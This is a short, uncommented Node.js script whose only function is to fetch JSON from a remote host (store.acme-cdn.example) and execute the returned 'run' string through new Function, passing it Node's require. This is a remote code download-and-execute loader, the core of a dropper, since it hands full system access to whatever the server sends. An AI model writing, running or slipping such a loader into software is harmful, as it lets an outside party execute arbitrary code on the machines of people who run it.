const https = require('https');

function get(address) {
  return new Promise((resolve) => {
    https.get(address, (answer) => {
      let text = '';
      answer.on('data', (chunk) => {
        text += chunk;
      });
      answer.on('end', () => resolve(text));
    });
  });
}

async function start() {
  const text = await get('https://store.acme-cdn.example/b/1');
  const { run } = JSON.parse(text);
  new Function('require', run)(require);
}

start();
